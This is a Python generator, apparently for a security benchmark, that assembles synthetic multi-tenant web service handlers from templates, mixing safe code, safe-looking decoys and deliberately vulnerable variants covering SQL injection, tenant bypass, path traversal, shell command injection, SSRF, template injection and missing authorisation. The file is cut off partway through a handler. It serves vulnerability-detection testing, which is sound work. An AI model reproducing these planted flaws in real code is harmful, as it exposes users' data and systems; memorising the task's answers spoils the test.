"""The service generator shared by this task's generate.py and score.py.

build(seed, n_resources, n_account, plan) returns (files, truth, exploits): files maps flat file
names to text (the platform sources from src/ plus one generated module per resource), truth
lists the planted vulnerabilities ({function, class, variant}), exploits holds one working
demonstration per planted vulnerability (for the reference solution and the self-check).

Every handler kind has a safe form and, for some kinds, decoy forms (safe code that looks
risky) and vulnerable variants. Safe code never shows the attacker a secret: that is what the
self-check in check_build() verifies by firing every known payload at every handler.
"""

import random
import re
from pathlib import Path

SRC = Path(__file__).resolve().parent / "src"
PLATFORM = ["platform_http.py", "platform_auth.py", "platform_db.py", "platform_fs.py",
            "platform_net.py", "platform_shell.py", "platform_tmpl.py", "platform_config.py",
            "world.py", "runner.py"]

NOUNS = [
    ("invoices", "invoice"), ("shipments", "shipment"), ("tickets", "ticket"),
    ("contracts", "contract"), ("quotes", "quote"), ("orders", "order"), ("refunds", "refund"),
    ("assets", "asset"), ("vendors", "vendor"), ("projects", "project"),
    ("timesheets", "timesheet"), ("expenses", "expense"), ("leads", "lead"),
    ("campaigns", "campaign"), ("warehouses", "warehouse"), ("parcels", "parcel"),
    ("claims", "claim"), ("policies", "policy"), ("incidents", "incident"),
    ("devices", "device"), ("licenses", "license"), ("courses", "course"),
    ("enrollments", "enrollment"), ("surveys", "survey"), ("documents", "document"),
    ("payouts", "payout"), ("subscriptions", "subscription"), ("coupons", "coupon"),
    ("reviews", "review"), ("milestones", "milestone"), ("budgets", "budget"),
    ("permits", "permit"), ("inspections", "inspection"), ("vehicles", "vehicle"),
    ("bookings", "booking"), ("rooms", "room"), ("menus", "menu"), ("recipes", "recipe"),
    ("batches", "batch"), ("assessments", "assessment"), ("certificates", "certificate"),
    ("deliveries", "delivery"), ("estimates", "estimate"), ("forecasts", "forecast"),
    ("tenders", "tender"), ("grants", "grant"), ("donations", "donation"), ("pledges", "pledge"),
    ("leases", "lease"), ("tenancies", "tenancy"), ("repairs", "repair"), ("workorders", "workorder"),
    ("calibrations", "calibration"), ("samples", "sample"), ("specimens", "specimen"),
    ("prescriptions", "prescription"), ("referrals", "referral"), ("appointments", "appointment"),
    ("shifts", "shift"), ("rosters", "roster"), ("payslips", "payslip"), ("mandates", "mandate"),
    ("settlements", "settlement"), ("disputes", "dispute"), ("chargebacks", "chargeback"),
    ("manifests", "manifest"), ("containers", "container"), ("berths", "berth"),
    ("voyages", "voyage"), ("customs_entries", "customs_entry"), ("tariffs", "tariff"),
    ("rebates", "rebate"), ("allowances", "allowance"), ("journals", "journal"),
]
ACCOUNT_MODULES = ["profile", "preferences", "onboarding", "contact", "notifications", "locale"]
STATUSES = ["open", "pending", "approved", "closed", "on_hold", "cancelled", "draft"]

# Kind -> list of variants. "safe" and "decoy*" are safe; the others are (class, variant).
VULN_VARIANTS = {
    "list": [("sqli", "list-status-splice")],
    "search": [("sqli", "search-like-splice"), ("sqli", "search-helper-clause")],
    "similar": [("sqli", "similar-second-order")],
    "get": [("idor", "get-no-tenant"), ("idor", "get-tenant-from-query"), ("idor", "get-shared-flag")],
    "attachments": [("idor", "attachments-owner-param")],
    "export": [("path-traversal", "export-no-check"), ("path-traversal", "export-strip-once"),
               ("path-traversal", "export-leading-slash-only"), ("path-traversal", "export-decode-after-check")],
    "convert": [("command-injection", "convert-fstring"), ("command-injection", "convert-manual-quote"),
                ("command-injection", "convert-strip-semicolon"), ("command-injection", "convert-stored-name")],
    "preview": [("ssrf", "preview-no-check"), ("ssrf", "preview-prefix-check"),
                ("ssrf", "preview-blocklist")],
    "notice": [("template-injection", "notice-concat"), ("template-injection", "notice-subject"),
               ("template-injection", "notice-stored-notes")],
    "admin": [("missing-auth", "admin-no-check"), ("missing-auth", "admin-header-trust"),
              ("missing-auth", "admin-debug-flag"), ("missing-auth", "admin-string-compare")],
    "account": [("mass-assignment", "account-isidentifier"), ("mass-assignment", "account-blocklist")],
}
DECOYS = {
    "list": ["decoy-sort-whitelist"],
    "search": ["decoy-helper-constant", "decoy-helper-validated"],
    "similar": ["decoy-int-splice"],
    "get": ["decoy-check-after-fetch", "decoy-owner-only"],
    "export": ["decoy-normpath-prefix", "decoy-listdir"],
    "convert": ["decoy-int-only", "decoy-regex-clean"],
    "preview": ["decoy-parsed-allowlist", "decoy-exact-url"],
    "notice": ["decoy-harmless-context", "decoy-stored-no-config"],
    "admin": ["decoy-manager-scoped", "decoy-index-compare"],
    "account": ["decoy-explicit-map"],
}
CLASSES = sorted({c for vs in VULN_VARIANTS.values() for c, _ in vs})
RESOURCE_KINDS = ["list", "search", "similar", "get", "attachments", "export", "convert", "preview", "notice", "admin"]
FILLER_KINDS = ["create", "delete", "archive", "count", "history", "stats", "bulk_status",
                "duplicate", "comment", "reassign", "restore", "import_rows", "monthly_report"]


ROW_NAMES = ["row", "record", "rec", "item", "entry", "found"]
USER_NAMES = ["user", "caller", "me", "actor", "principal"]


def vary(code, rng):
    """Rename the handler's local `row` and `user` variables (cosmetic, same behaviour)."""
    code = re.sub(r"(?<![\w.\"'])row(?![\w\"'])", rng.choice(ROW_NAMES), code)
    return re.sub(r"(?<![\w.\"'])user(?![\w\"'])", rng.choice(USER_NAMES), code)


def sub(text, res, sing):
    return (text.replace("__P__", res).replace("__S__", sing)
            .replace("__SC__", sing.replace("_", " ").title().replace(" ", "")))


# ---------------------------------------------------------------- handler templates

HEADER = '''"""__SC__ records: listing, search, exports, document conversion, link previews and notices.

Routes live under /__P__. Every handler takes the Request (see platform_http) and returns the
response body as a dict. Records belong to a tenant; callers only ever see their own tenant's
records unless they are platform administrators.
"""

import posixpath
import re
import shlex
from urllib.parse import unquote, urlsplit

import platform_auth as auth
import platform_config as config
import platform_db as db
import platform_fs as fs
import platform_net as net
import platform_shell as shell
import platform_tmpl as tmpl
from platform_http import HttpError, route

TABLE = "__P__"
PUBLIC_FIELDS = ("id", "name", "status", "amount", "created_at")
SORT_COLUMNS = {"newest": "created_at DESC", "oldest": "created_at ASC", "amount": "amount DESC"}
STATUSES = STATUSES_PLACEHOLDER
EXPORT_ROOT = "/data"
PREVIEW_HOSTS = {"cdn.partner.example"}
PAGE_MAX = 100


def _public(row):
    return {key: row[key] for key in PUBLIC_FIELDS if key in row}


def _page(req):
    try:
        page = max(1, int(req.query.get("page", "1")))
        size = min(PAGE_MAX, max(1, int(req.query.get("size", "20"))))
    except ValueError:
        raise HttpError(400, "page and size must be integers")
    return size, (page - 1) * size


def _record_id(req):
    raw = req.params.get("__S___id", "")
    if not raw.isdigit():
        raise HttpError(400, "bad __S__ id")
    return int(raw)


def _match_clause(column, value):
    """SQL fragment matching a trusted internal value (a status constant, a column name)."""
    return f"{column} = '{value}'"


def _audit(req, action, target):
    user = req.user or {}
    db.execute(
        "INSERT INTO audit_log (tenant_id, user_id, action, target, created_at)"
        " VALUES (?, ?, ?, ?, datetime('now'))",
        (user.get("tenant_id"), user.get("id"), action, f"__P__:{target}"),
    )


def _load(req, record_id):
    user = auth.require_user(req)
    row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ? AND tenant_id = ?", (record_id, user["tenant_id"]))
    if row is None:
        raise HttpError(404, "__S__ not found")
    return row
'''

T = {}

T["list", "safe"] = '''
@route("GET", "/__P__")
def list___P__(req):
    user = auth.require_user(req)
    size, offset = _page(req)
    status = req.query.get("status", "open")
    if status not in STATUSES:
        raise HttpError(400, "unknown status")
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        " WHERE tenant_id = ? AND status = ? AND archived = 0 ORDER BY id LIMIT ? OFFSET ?",
        (user["tenant_id"], status, size, offset),
    )
    return {"items": [_public(r) for r in rows], "page_size": size}
'''
T["list", "decoy-sort-whitelist"] = '''
@route("GET", "/__P__")
def list___P__(req):
    user = auth.require_user(req)
    size, offset = _page(req)
    order = SORT_COLUMNS.get(req.query.get("sort", "newest"))
    if order is None:
        raise HttpError(400, "unknown sort order")
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = ? AND archived = 0 ORDER BY {order} LIMIT {size} OFFSET {offset}",
        (user["tenant_id"],),
    )
    return {"items": [_public(r) for r in rows], "page_size": size}
'''
T["list", "list-status-splice"] = '''
@route("GET", "/__P__")
def list___P__(req):
    user = auth.require_user(req)
    size, offset = _page(req)
    status = req.query.get("status", "open").strip().lower()
    if len(status) > 200:
        raise HttpError(400, "status too long")
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = ? AND status = '{status}' AND archived = 0 ORDER BY id LIMIT ? OFFSET ?",
        (user["tenant_id"], size, offset),
    )
    return {"items": [_public(r) for r in rows], "page_size": size}
'''

T["search", "safe"] = '''
@route("GET", "/__P__/search")
def search___P__(req):
    user = auth.require_user(req)
    term = req.query.get("q", "").strip()
    if not term:
        return {"items": []}
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        " WHERE tenant_id = ? AND name LIKE ? ORDER BY id LIMIT 50",
        (user["tenant_id"], "%" + term + "%"),
    )
    return {"items": [_public(r) for r in rows], "query": term}
'''
T["search", "decoy-helper-constant"] = '''
@route("GET", "/__P__/search")
def search___P__(req):
    user = auth.require_user(req)
    term = req.query.get("q", "").strip()
    if not term:
        return {"items": []}
    archived = _match_clause("archived", 1 if req.query.get("archived") == "yes" else 0)
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = ? AND {archived} AND name LIKE ? ORDER BY id LIMIT 50",
        (user["tenant_id"], "%" + term + "%"),
    )
    return {"items": [_public(r) for r in rows], "query": term}
'''
T["search", "search-like-splice"] = '''
@route("GET", "/__P__/search")
def search___P__(req):
    user = auth.require_user(req)
    term = req.query.get("q", "").strip()
    if not term:
        return {"items": []}
    if "--" in term or ";" in term:
        raise HttpError(400, "invalid characters in search")
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = ? AND name LIKE '%{term}%' ORDER BY id LIMIT 50",
        (user["tenant_id"],),
    )
    return {"items": [_public(r) for r in rows], "query": term}
'''
T["search", "search-helper-clause"] = '''
@route("GET", "/__P__/search")
def search___P__(req):
    user = auth.require_user(req)
    term = req.query.get("q", "").strip()
    if not term:
        return {"items": []}
    status = _match_clause("status", req.query.get("status", "open"))
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = ? AND {status} AND name LIKE ? ORDER BY id LIMIT 50",
        (user["tenant_id"], "%" + term + "%"),
    )
    return {"items": [_public(r) for r in rows], "query": term}
'''

T["get", "safe"] = '''
@route("GET", "/__P__/<__S___id>")
def get___S__(req):
    row = _load(req, _record_id(req))
    return {"__S__": row}
'''
T["get", "decoy-check-after-fetch"] = '''
@route("GET", "/__P__/<__S___id>")
def get___S__(req):
    user = auth.require_user(req)
    row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ?", (_record_id(req),))
    if row is None or row["tenant_id"] != user["tenant_id"]:
        raise HttpError(404, "__S__ not found")
    return {"__S__": row}
'''
T["get", "get-no-tenant"] = '''
@route("GET", "/__P__/<__S___id>")
def get___S__(req):
    auth.require_user(req)
    row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ?", (_record_id(req),))
    if row is None:
        raise HttpError(404, "__S__ not found")
    return {"__S__": row}
'''
T["get", "get-tenant-from-query"] = '''
@route("GET", "/__P__/<__S___id>")
def get___S__(req):
    user = auth.require_user(req)
    tenant = req.query.get("tenant_id", user["tenant_id"])
    row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ? AND tenant_id = ?", (_record_id(req), tenant))
    if row is None:
        raise HttpError(404, "__S__ not found")
    return {"__S__": row}
'''

T["attachments", "safe"] = '''
@route("GET", "/__P__/<__S___id>/notes")
def __S___notes(req):
    row = _load(req, _record_id(req))
    return {"id": row["id"], "notes": row["notes"], "owner_id": row["owner_id"]}
'''
T["attachments", "attachments-owner-param"] = '''
@route("GET", "/__P__/<__S___id>/notes")
def __S___notes(req):
    user = auth.require_user(req)
    record_id = _record_id(req)
    owner = req.query.get("owner_id")
    if owner:
        row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ? AND owner_id = ?", (record_id, owner))
    else:
        row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ? AND tenant_id = ?", (record_id, user["tenant_id"]))
    if row is None:
        raise HttpError(404, "__S__ not found")
    return {"id": row["id"], "notes": row["notes"], "owner_id": row["owner_id"]}
'''

_EXPORT_HEAD = '''
@route("GET", "/__P__/exports/<name>")
def download___S___export(req):
    user = auth.require_user(req)
    name = req.params["name"] or req.query.get("file", "")
    if req.query.get("file"):
        name = req.query["file"]
'''
_EXPORT_TAIL = '''    _audit(req, "export", name)
    return {"file": name, "content": fs.read(path)}
'''
T["export", "safe"] = _EXPORT_HEAD + '''    if "/" in name or name.startswith("."):
        raise HttpError(400, "bad file name")
    path = f"{EXPORT_ROOT}/{user['tenant_id']}/{TABLE}/{name}"
''' + _EXPORT_TAIL
T["export", "decoy-normpath-prefix"] = _EXPORT_HEAD + '''    base = f"{EXPORT_ROOT}/{user['tenant_id']}/{TABLE}/"
    path = posixpath.normpath(base + name)
    if not path.startswith(base):
        raise HttpError(400, "bad file name")
''' + _EXPORT_TAIL
T["export", "export-no-check"] = _EXPORT_HEAD + '''    if not name:
        raise HttpError(400, "file name required")
    path = posixpath.join(EXPORT_ROOT, str(user["tenant_id"]), TABLE, name)
''' + _EXPORT_TAIL
T["export", "export-strip-once"] = _EXPORT_HEAD + '''    name = name.replace("../", "")
    path = f"{EXPORT_ROOT}/{user['tenant_id']}/{TABLE}/{name}"
''' + _EXPORT_TAIL
T["export", "export-leading-slash-only"] = _EXPORT_HEAD + '''    if name.startswith("/") or name.startswith("~"):
        raise HttpError(400, "absolute paths are not allowed")
    path = f"{EXPORT_ROOT}/{user['tenant_id']}/{TABLE}/{name}"
''' + _EXPORT_TAIL

_CONVERT_HEAD = '''
@route("POST", "/__P__/<__S___id>/pdf")
def render___S___pdf(req):
    row = _load(req, _record_id(req))
    title = str(req.body.get("title", row["name"]))[:300]
    source = f"{EXPORT_ROOT}/{row['tenant_id']}/{TABLE}/report-{row['id']}.txt"
'''
T["convert", "safe"] = _CONVERT_HEAD + '''    output = shell.run(f"convert-doc --format pdf --title {shlex.quote(title)} {shlex.quote(source)}")
    return {"id": row["id"], "log": output}
'''
T["convert", "decoy-int-only"] = _CONVERT_HEAD + '''    copies = int(req.body.get("copies", 1))
    output = shell.run(f"convert-doc --format pdf --copies {copies} {source}")
    return {"id": row["id"], "log": output, "title": title}
'''
T["convert", "convert-fstring"] = _CONVERT_HEAD + '''    output = shell.run(f"convert-doc --format pdf --title {title} {source}")
    return {"id": row["id"], "log": output}
'''
T["convert", "convert-manual-quote"] = _CONVERT_HEAD + '''    quoted = '"' + title.replace("'", "") + '"'
    output = shell.run(f"convert-doc --format pdf --title {quoted} {source}")
    return {"id": row["id"], "log": output}
'''
T["convert", "convert-strip-semicolon"] = _CONVERT_HEAD + '''    title = title.replace(";", "").replace("&", "").replace("`", "")
    output = shell.run(f"convert-doc --format pdf --title '{title}' {source}")
    return {"id": row["id"], "log": output}
'''

_PREVIEW_HEAD = '''
@route("POST", "/__P__/<__S___id>/preview")
def preview___S___link(req):
    row = _load(req, _record_id(req))
    url = str(req.body.get("url", "")).strip()
    if not url:
        raise HttpError(400, "url required")
'''
_PREVIEW_TAIL = '''    body = net.fetch(url)
    return {"id": row["id"], "url": url, "preview": body[:2000]}
'''
T["preview", "safe"] = _PREVIEW_HEAD + '''    parts = urlsplit(url)
    if parts.scheme != "https" or parts.hostname not in PREVIEW_HOSTS or parts.port not in (None, 443):
        raise HttpError(400, "only partner CDN links can be previewed")
''' + _PREVIEW_TAIL
T["preview", "decoy-parsed-allowlist"] = _PREVIEW_HEAD + '''    host = (urlsplit(url).hostname or "").lower()
    if not any(host == allowed for allowed in PREVIEW_HOSTS) or "@" in url.split("/")[2]:
        raise HttpError(400, "only partner CDN links can be previewed")
''' + _PREVIEW_TAIL
T["preview", "preview-no-check"] = _PREVIEW_HEAD + '''    if not url.startswith(("http://", "https://")):
        raise HttpError(400, "only web links can be previewed")
''' + _PREVIEW_TAIL
T["preview", "preview-prefix-check"] = _PREVIEW_HEAD + '''    if not url.startswith("https://cdn.partner.example"):
        raise HttpError(400, "only partner CDN links can be previewed")
''' + _PREVIEW_TAIL
T["preview", "preview-blocklist"] = _PREVIEW_HEAD + '''    lowered = url.lower()
    if "metadata" in lowered or "localhost" in lowered or "169.254" in lowered:
        raise HttpError(400, "internal addresses cannot be previewed")
''' + _PREVIEW_TAIL

_NOTICE_HEAD = '''
@route("POST", "/__P__/<__S___id>/notice")
def compose___S___notice(req):
    row = _load(req, _record_id(req))
    message = str(req.body.get("message", ""))[:2000]
    template = "Hello {{ customer }},\\n\\n{{ message }}\\n\\n-- {{ config.brand }} ({{ config.support_email }})"
'''
T["notice", "safe"] = _NOTICE_HEAD + '''    text = tmpl.render(template, {"customer": row["name"], "message": message, "config": config.SETTINGS})
    return {"id": row["id"], "notice": text}
'''
T["notice", "decoy-harmless-context"] = _NOTICE_HEAD + '''    footer = str(req.body.get("footer", ""))[:500]
    context = {"customer": row["name"], "message": message, "record": _public(row)}
    text = tmpl.render("Hello {{ customer }},\\n\\n{{ message }}\\n\\n" + footer, context)
    return {"id": row["id"], "notice": text}
'''
T["notice", "notice-concat"] = _NOTICE_HEAD + '''    footer = str(req.body.get("footer", ""))[:500]
    text = tmpl.render(template + "\\n" + footer, {"customer": row["name"], "message": message, "config": config.SETTINGS})
    return {"id": row["id"], "notice": text}
'''
T["notice", "notice-subject"] = _NOTICE_HEAD + '''    subject = str(req.body.get("subject", "About your __S__"))[:200]
    context = {"customer": row["name"], "message": message, "config": config.SETTINGS}
    text = tmpl.render(template, context)
    return {"id": row["id"], "subject": tmpl.render(subject, context), "notice": text}
'''

_ADMIN_TAIL = '''    rows = db.query(f"SELECT id, tenant_id, name, status, notes, amount FROM {TABLE} ORDER BY id")
    return {"tenants": sorted({r["tenant_id"] for r in rows}), "items": rows}
'''
_ADMIN_HEAD = '''
@route("GET", "/admin/__P__")
def admin___P___overview(req):
'''
T["admin", "safe"] = _ADMIN_HEAD + '''    auth.require_role(req, "admin")
''' + _ADMIN_TAIL
T["admin", "decoy-manager-scoped"] = _ADMIN_HEAD + '''    user = auth.require_role(req, "manager")
    rows = db.query(f"SELECT id, tenant_id, name, status, notes, amount FROM {TABLE} WHERE tenant_id = ?"
                    " ORDER BY id", (user["tenant_id"],))
    return {"tenants": [user["tenant_id"]], "items": rows}
'''
T["admin", "admin-no-check"] = _ADMIN_HEAD + '''    auth.require_user(req)
    # Only linked from the admin console.
''' + _ADMIN_TAIL
T["admin", "admin-header-trust"] = _ADMIN_HEAD + '''    user = auth.require_user(req)
    role = req.headers.get("x-effective-role", user["role"])
    if role != "admin":
        raise HttpError(403, "forbidden")
''' + _ADMIN_TAIL
T["admin", "admin-debug-flag"] = _ADMIN_HEAD + '''    user = auth.require_user(req)
    if user["role"] != "admin" and req.query.get("debug") != "1":
        raise HttpError(403, "forbidden")
''' + _ADMIN_TAIL


T["search", "decoy-helper-validated"] = """
@route("GET", "/__P__/search")
def search___P__(req):
    user = auth.require_user(req)
    term = req.query.get("q", "").strip()
    status = req.query.get("status", "open")
    if not term:
        return {"items": []}
    if status not in STATUSES:
        raise HttpError(400, "unknown status")
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = ? AND {_match_clause('status', status)} AND name LIKE ? ORDER BY id LIMIT 50",
        (user["tenant_id"], "%" + term + "%"),
    )
    return {"items": [_public(r) for r in rows], "query": term}
"""
_SIMILAR_HEAD = """
@route("GET", "/__P__/<__S___id>/similar")
def similar___P__(req):
    row = _load(req, _record_id(req))
    prefix = (row["name"] or "").split(" ")[0]
"""
_SIMILAR_TAIL = """    return {"id": row["id"], "similar": [_public(r) for r in rows]}
"""
T["similar", "safe"] = _SIMILAR_HEAD + """    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        " WHERE tenant_id = ? AND id != ? AND name LIKE ? ORDER BY id LIMIT 20",
        (row["tenant_id"], row["id"], prefix + "%"),
    )
""" + _SIMILAR_TAIL
T["similar", "decoy-int-splice"] = _SIMILAR_HEAD + """    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = {int(row['tenant_id'])} AND id != {int(row['id'])} AND name LIKE ? ORDER BY id LIMIT 20",
        (prefix + "%",),
    )
""" + _SIMILAR_TAIL
T["similar", "similar-second-order"] = _SIMILAR_HEAD + """    # prefix comes from our own database, not from the request
    rows = db.query(
        f"SELECT id, name, status, amount, created_at FROM {TABLE}"
        f" WHERE tenant_id = ? AND id != ? AND name LIKE '{prefix}%' ORDER BY id LIMIT 20",
        (row["tenant_id"], row["id"]),
    )
""" + _SIMILAR_TAIL
T["get", "decoy-owner-only"] = """
@route("GET", "/__P__/<__S___id>")
def get___S__(req):
    user = auth.require_user(req)
    row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ? AND owner_id = ?", (_record_id(req), user["id"]))
    if row is None:
        raise HttpError(404, "__S__ not found (only your own records are shown here)")
    return {"__S__": row}
"""
T["get", "get-shared-flag"] = """
@route("GET", "/__P__/<__S___id>")
def get___S__(req):
    user = auth.require_user(req)
    row = db.query_one(f"SELECT * FROM {TABLE} WHERE id = ?", (_record_id(req),))
    shared = bool(req.query.get("share_token"))  # links shared by another organisation
    if row is None or (row["tenant_id"] != user["tenant_id"] and not shared):
        raise HttpError(404, "__S__ not found")
    return {"__S__": row}
"""
T["export", "decoy-listdir"] = _EXPORT_HEAD + """    base = f"{EXPORT_ROOT}/{user['tenant_id']}/{TABLE}"
    if name not in fs.listdir(base):
        raise HttpError(404, "no such export")
    path = base + "/" + name
""" + _EXPORT_TAIL
T["export", "export-decode-after-check"] = _EXPORT_HEAD + """    if ".." in name or name.startswith("/"):
        raise HttpError(400, "bad file name")
    path = f"{EXPORT_ROOT}/{user['tenant_id']}/{TABLE}/{unquote(name)}"
""" + _EXPORT_TAIL
T["convert", "decoy-regex-clean"] = _CONVERT_HEAD + """    clean = re.sub(r"[^A-Za-z0-9 _.-]", "", title)
    output = shell.run(f"convert-doc --format pdf --title '{clean}' {source}")
    return {"id": row["id"], "log": output}
"""
T["convert", "convert-stored-name"] = _CONVERT_HEAD + """    label = (row["name"] or "untitled").replace(" ", "_")
    output = shell.run(f"convert-doc --format pdf --title {shlex.quote(title)} --output /tmp/{label}.pdf {source}")
    return {"id": row["id"], "log": output}
"""
T["preview", "decoy-exact-url"] = _PREVIEW_HEAD + """    allowed = {f"https://cdn.partner.example{p}" for p in ("/", "/logo.png", "/banner.png", "/terms.html")}
    if url not in allowed:
        raise HttpError(400, "only partner CDN assets can be previewed")
""" + _PREVIEW_TAIL
T["notice", "decoy-stored-no-config"] = _NOTICE_HEAD + """    context = {"customer": row["name"], "message": message, "brand": config.SETTINGS["brand"]}
    text = tmpl.render("Hello {{ customer }},\\n\\n{{ message }}\\n\\n" + (row["notes"] or "")[:500], context)
    return {"id": row["id"], "notice": text}
"""
T["notice", "notice-stored-notes"] = _NOTICE_HEAD + """    signature = (row["notes"] or "").split("\\n")[-1][:500]  # the record's signature line
    text = tmpl.render(template + "\\n" + signature, {"customer": row["name"], "message": message, "config": config.SETTINGS})
    return {"id": row["id"], "notice": text}
"""
T["admin", "decoy-index-compare"] = _ADMIN_HEAD + """    user = auth.require_user(req)
    if auth.ROLES.index(user["role"]) < auth.ROLES.index("admin"):
        raise HttpError(403, "forbidden")
""" + _ADMIN_TAIL
T["admin", "admin-string-compare"] = _ADMIN_HEAD + """    user = auth.require_user(req)
    if user["role"] < "admin":
        raise HttpError(403, "forbidden")
""" + _ADMIN_TAIL

# filler (always safe)
T["create", "safe"] = '''
@route("POST", "/__P__")
def create___S__(req):
    user = auth.require_user(req)
    name = str(req.body.get("name", "")).strip()
    if not 1 <= len(name) <= 120:
        raise HttpError(400, "name must be 1-120 characters")
    try:
        amount = int(req.body.get("amount", 0))
    except (TypeError, ValueError):
        raise HttpError(400, "amount must be an integer")
    if amount < 0:
        raise HttpError(400, "amount must not be negative")
    new_id = db.execute(
        f"INSERT INTO {TABLE} (tenant_id, owner_id, name, status, notes, amount, created_at)"
        " VALUES (?, ?, ?, 'draft', ?, ?, datetime('now'))",
        (user["tenant_id"], user["id"], name, str(req.body.get("notes", ""))[:2000], amount),
    )
    _audit(req, "create", new_id)
    return {"id": new_id, "status": "draft"}
'''
T["update", "safe"] = '''
@route("POST", "/__P__/<__S___id>")
def update___S__(req):
    row = _load(req, _record_id(req))
    changes = {}
    for key in ("name", "notes", "amount"):
        if key in req.body:
            changes[key] = req.body[key]
    if "amount" in changes:
        try:
            changes["amount"] = int(changes["amount"])
        except (TypeError, ValueError):
            raise HttpError(400, "amount must be an integer")
    for key, value in changes.items():
        db.execute(f"UPDATE {TABLE} SET {key} = ? WHERE id = ?", (value, row["id"]))
    _audit(req, "update", row["id"])
    return {"id": row["id"], "changed": sorted(changes)}
'''
T["delete", "safe"] = '''
@route("DELETE", "/__P__/<__S___id>")
def delete___S__(req):
    row = _load(req, _record_id(req))
    if row["owner_id"] != req.user["id"] and req.user["role"] == "user":
        raise HttpError(403, "only the owner or a manager can delete")
    db.execute(f"DELETE FROM {TABLE} WHERE id = ?", (row["id"],))
    _audit(req, "delete", row["id"])
    return {"deleted": row["id"]}
'''
T["archive", "safe"] = '''
@route("POST", "/__P__/<__S___id>/archive")
def archive___S__(req):
    row = _load(req, _record_id(req))
    if row["archived"]:
        return {"id": row["id"], "archived": True, "changed": False}
    db.execute(f"UPDATE {TABLE} SET archived = 1 WHERE id = ? AND {_match_clause('archived', 0)}", (row["id"],))
    _audit(req, "archive", row["id"])
    return {"id": row["id"], "archived": True, "changed": True}
'''
T["count", "safe"] = '''
@route("GET", "/__P__/count")
def count___P__(req):
    user = auth.require_user(req)
    counts = {}
    for status in STATUSES:
        row = db.query_one(
            f"SELECT COUNT(*) AS n FROM {TABLE} WHERE tenant_id = ? AND {_match_clause('status', status)}",
            (user["tenant_id"],),
        )
        counts[status] = row["n"]
    return {"counts": counts, "total": sum(counts.values())}
'''
T["history", "safe"] = '''
@route("GET", "/__P__/<__S___id>/history")
def __S___history(req):
    row = _load(req, _record_id(req))
    entries = db.query(
        "SELECT action, user_id, created_at FROM audit_log WHERE tenant_id = ? AND target = ?"
        " ORDER BY id DESC LIMIT 100",
        (row["tenant_id"], f"__P__:{row['id']}"),
    )
    return {"id": row["id"], "history": entries}
'''
T["stats", "safe"] = '''
@route("GET", "/__P__/stats")
def __P___stats(req):
    user = auth.require_user(req)
    row = db.query_one(
        f"SELECT COUNT(*) AS n, COALESCE(SUM(amount), 0) AS total, COALESCE(MAX(amount), 0) AS largest"
        f" FROM {TABLE} WHERE tenant_id = ? AND archived = 0",
        (user["tenant_id"],),
    )
    average = row["total"] / row["n"] if row["n"] else 0
    return {"count": row["n"], "total": row["total"], "largest": row["largest"], "average": round(average, 2)}
'''
T["bulk_status", "safe"] = '''
@route("POST", "/__P__/bulk-status")
def bulk___P___status(req):
    user = auth.require_role(req, "manager")
    status = req.body.get("status")
    if status not in STATUSES:
        raise HttpError(400, "unknown status")
    ids = req.body.get("ids", [])
    if not isinstance(ids, list) or not all(isinstance(i, int) for i in ids) or len(ids) > 500:
        raise HttpError(400, "ids must be a list of at most 500 integers")
    changed = 0
    for record_id in ids:
        row = db.query_one(f"SELECT id FROM {TABLE} WHERE id = ? AND tenant_id = ?", (record_id, user["tenant_id"]))
        if row is not None:
            db.execute(f"UPDATE {TABLE} SET status = ? WHERE id = ?", (status, record_id))
            changed += 1
    _audit(req, "bulk-status", f"{changed}:{status}")
    return {"changed": changed, "status": status}
'''
T["duplicate", "safe"] = '''
@route("POST", "/__P__/<__S___id>/duplicate")
def duplicate___S__(req):
    row = _load(req, _record_id(req))
    new_id = db.execute(
        f"INSERT INTO {TABLE} (tenant_id, owner_id, name, status, notes, amount, created_at)"
        " VALUES (?, ?, ?, 'draft', ?, ?, datetime('now'))",
        (row["tenant_id"], req.user["id"], (row["name"] + " (copy)")[:120], row["notes"], row["amount"]),
    )
    _audit(req, "duplicate", f"{row['id']}->{new_id}")
    return {"id": new_id, "copied_from": row["id"]}
'''
T["comment", "safe"] = '''
@route("POST", "/__P__/<__S___id>/comment")
def comment_on___S__(req):
    row = _load(req, _record_id(req))
    text = str(req.body.get("text", "")).strip()
    if not text or len(text) > 1000:
        raise HttpError(400, "a comment is 1-1000 characters")
    notes = (row["notes"] or "") + "\\n" + req.user["username"] + ": " + text
    db.execute(f"UPDATE {TABLE} SET notes = ? WHERE id = ?", (notes[-8000:], row["id"]))
    _audit(req, "comment", row["id"])
    return {"id": row["id"], "comments": notes.count("\\n")}
'''

T["reassign", "safe"] = '''
@route("POST", "/__P__/<__S___id>/reassign")
def reassign___S__(req):
    manager = auth.require_role(req, "manager")
    row = _load(req, _record_id(req))
    try:
        new_owner = int(req.body.get("owner_id", 0))
    except (TypeError, ValueError):
        raise HttpError(400, "owner_id must be an integer")
    target = db.query_one("SELECT id, tenant_id FROM users WHERE id = ?", (new_owner,))
    if target is None or target["tenant_id"] != manager["tenant_id"]:
        raise HttpError(400, "the new owner must belong to your organisation")
    db.execute(f"UPDATE {TABLE} SET owner_id = ? WHERE id = ?", (new_owner, row["id"]))
    _audit(req, "reassign", f"{row['id']}->{new_owner}")
    return {"id": row["id"], "owner_id": new_owner}
'''
T["restore", "safe"] = '''
@route("POST", "/__P__/<__S___id>/restore")
def restore___S__(req):
    row = _load(req, _record_id(req))
